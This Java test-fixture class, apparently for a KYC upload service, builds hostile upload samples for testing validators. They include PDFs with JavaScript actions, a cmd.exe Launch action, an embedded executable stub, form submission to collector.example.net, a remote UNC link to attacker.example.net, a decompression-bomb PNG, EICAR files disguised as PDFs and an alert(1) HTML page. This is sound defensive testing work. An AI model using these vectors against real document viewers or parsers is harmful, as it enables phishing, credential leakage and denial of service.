package io.kycvault.testing;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.common.PDRectangle;

/** Files an applicant (or an attacker) might upload, made in memory. */
public final class Fixtures {

    private Fixtures() {
    }

    public static byte[] textPdf(String text) {
        return pdf(doc -> { }, text);
    }

    /** What a document scanner writes: one image page and an open action that only sets the view. */
    public static byte[] scannerPdf() {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            var image = LosslessFactory.createFromImage(doc, picture(300, 400));
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.drawImage(image, 0, 0, PDRectangle.A4.getWidth(), PDRectangle.A4.getHeight());
            }
            PDPageFitDestination destination = new PDPageFitDestination();
            destination.setPage(page);
            PDActionGoTo goTo = new PDActionGoTo();
            goTo.setDestination(destination);
            doc.getDocumentCatalog().setOpenAction(goTo);
            doc.getDocumentInformation().setProducer("ScanSnap Manager #S1500");
            return save(doc);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public enum Script { OPEN_ACTION, PAGE_OPEN_ACTION, LINK_ANNOTATION, NAMES_TREE }

    public static byte[] pdfWithJavaScript(Script where) {
        return pdf(doc -> {
            PDActionJavaScript js = new PDActionJavaScript("app.alert('hello');");
            PDPage page = doc.getPage(0);
            switch (where) {
                case OPEN_ACTION -> doc.getDocumentCatalog().setOpenAction(js);
                case PAGE_OPEN_ACTION -> {
                    PDPageAdditionalActions actions = new PDPageAdditionalActions();
                    actions.setO(js);
                    page.setActions(actions);
                }
                case LINK_ANNOTATION -> {
                    PDAnnotationLink link = new PDAnnotationLink();
                    link.setRectangle(new PDRectangle(10, 10, 100, 20));
                    link.setAction(js);
                    try {
                        page.getAnnotations().add(link);
                    } catch (IOException e) {
                        throw new UncheckedIOException(e);
                    }
                }
                case NAMES_TREE -> {
                    COSDictionary names = new COSDictionary();
                    COSDictionary tree = new COSDictionary();
                    COSArray pairs = new COSArray();
                    pairs.add(new COSString("init"));
                    pairs.add(js.getCOSObject());
                    tree.setItem(COSName.NAMES, pairs);
                    names.setItem(COSName.getPDFName("JavaScript"), tree);
                    doc.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, names);
                }
            }
        }, "a form");
    }

    public static byte[] pdfWithLaunchAction() {
        return pdf(doc -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.getCOSObject().setString(COSName.F, "cmd.exe");
            doc.getDocumentCatalog().setOpenAction(launch);
        }, "launch");
    }

    public static byte[] pdfWithEmbeddedFile() {
        return pdf(doc -> {
            try {
                PDComplexFileSpecification spec = new PDComplexFileSpecification();
                spec.setFile("payload.exe");
                PDEmbeddedFile embedded = new PDEmbeddedFile(doc, new java.io.ByteArrayInputStream(new byte[] {'M', 'Z'}));
                spec.setEmbeddedFile(embedded);
                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(Map.of("payload.exe", spec));
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                doc.getDocumentCatalog().setNames(names);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }, "attachment");
    }

    /**
     * A link annotation whose action is of the given type (SubmitForm, ImportData, URI, GoToR, GoToE,
     * RichMediaExecute), written at the COS level with the entries that action type takes.
     */
    public static byte[] pdfWithAction(String type) {
        return pdf(doc -> {
            COSDictionary action = new COSDictionary();
            action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
            action.setItem(COSName.S, COSName.getPDFName(type));
            switch (type) {
                case "SubmitForm" -> action.setString(COSName.F, "https://collector.example.net/submit");
                case "ImportData" -> action.setString(COSName.F, "data.fdf");
                case "URI" -> action.setString(COSName.getPDFName("URI"), "https://phishing.example.net/");
                case "GoToR" -> {
                    action.setString(COSName.F, "\\\\attacker.example.net\\share\\other.pdf");
                    action.setItem(COSName.D, new COSArray());
                }
                case "GoToE" -> action.setItem(COSName.T, new COSDictionary());
                default -> action.setItem(COSName.getPDFName("TA"), new COSDictionary());
            }
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 100, 20));
            link.getCOSObject().setItem(COSName.A, action);
            try {
                doc.getPage(0).getAnnotations().add(link);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }, "action " + type);
    }

    /** An interactive form that carries an XFA form (the AcroForm's /XFA entry). */
    public static byte[] pdfWithXfaForm() {
        return pdf(doc -> {
            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(doc);
            var xfa = new org.apache.pdfbox.cos.COSStream();
            try (var out = xfa.createOutputStream()) {
                out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>".getBytes(StandardCharsets.UTF_8));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            form.getCOSObject().setItem(COSName.getPDFName("XFA"), xfa);
            doc.getDocumentCatalog().setAcroForm(form);
        }, "xfa");
    }

    /** A RichMedia annotation (the Flash/video player of PDF 1.7 extension level 3). */
    public static byte[] pdfWithRichMedia() {
        return pdf(doc -> {
            COSDictionary annotation = new COSDictionary();
            annotation.setItem(COSName.TYPE, COSName.ANNOT);
            annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
            annotation.setItem(COSName.RECT, new PDRectangle(10, 10, 100, 100).getCOSArray());
            try {
                doc.getPage(0).getAnnotations().add(org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation.createAnnotation(annotation));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }, "rich media");
    }

    public static byte[] encryptedPdf(String userPassword) {
        return pdf(doc -> {
            try {
                StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword, new AccessPermission());
                policy.setEncryptionKeyLength(128);
                doc.protect(policy);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }, "secret");
    }

    interface DocumentChange {
        void apply(PDDocument doc);
    }

    private static byte[] pdf(DocumentChange change, String text) {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 720);
                content.showText(text);
                content.endText();
            }
            change.apply(doc);
            return save(doc);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] save(PDDocument doc) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        doc.save(out);
        return out.toByteArray();
    }

    public static BufferedImage picture(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.WHITE);
        g.fillRect(0, 0, width, height);
        g.setColor(Color.DARK_GRAY);
        for (int y = 10; y < height; y += 24) {
            g.fillRect(10, y, width - 20, 6);
        }
        g.dispose();
        return image;
    }

    public static byte[] jpeg(int width, int height) {
        return image("jpg", width, height);
    }

    public static byte[] png(int width, int height) {
        return image("png", width, height);
    }

    private static byte[] image(String format, int width, int height) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(picture(width, height), format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] truncated(byte[] file) {
        return Arrays.copyOf(file, file.length / 2);
    }

    /** A valid PNG container of a few KB whose header claims 50,000 × 50,000 pixels. */
    public static byte[] decompressionBombPng() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteBuffer header = ByteBuffer.allocate(13).putInt(50_000).putInt(50_000).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(out, "IHDR", header.array());
        Deflater deflater = new Deflater(9);
        deflater.setInput(new byte[64 * 1024]);
        deflater.finish();
        byte[] buffer = new byte[8192];
        int length = deflater.deflate(buffer);
        byte[] filler = new byte[2048];
        Arrays.fill(filler, (byte) 'x');
        chunk(out, "tEXt", ("Comment\0" + new String(filler, StandardCharsets.US_ASCII)).getBytes(StandardCharsets.ISO_8859_1));
        chunk(out, "IDAT", Arrays.copyOf(buffer, length));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /**
     * A well-formed one-page PDF whose (Flate-compressed) page content carries the EICAR test string
     * in a comment: it passes every structural check; only a malware scanner that unpacks PDF streams
     * finds it.
     */
    public static byte[] pdfWithEicar() {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.addComment(new String(io.kycvault.local.LocalMalwareScanner.eicar(), StandardCharsets.US_ASCII));
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 720);
                content.showText("bank statement");
                content.endText();
            }
            return save(doc);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A ZIP archive holding eicar.com, as an attacker would upload it declared as a PDF. */
    public static byte[] zipWithEicar() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
            zip.putNextEntry(new java.util.zip.ZipEntry("statement.pdf.com"));
            zip.write(io.kycvault.local.LocalMalwareScanner.eicar());
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** ClamAV's test executable (Debian package clamav-testfiles, installed by bin/test). */
    public static byte[] clamTestExecutable() {
        java.nio.file.Path file = java.nio.file.Path.of("/usr/share/clamav-testfiles/clam.exe");
        try {
            return java.nio.file.Files.readAllBytes(file);
        } catch (IOException e) {
            throw new IllegalStateException(file + " is missing: install clamav-testfiles (bin/test does)", e);
        }
    }

    public static byte[] htmlPage() {
        return "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] elfBinary() {
        byte[] elf = new byte[512];
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        return elf;
    }

    public static List<Script> scripts() {
        return List.of(Script.values());
    }
}
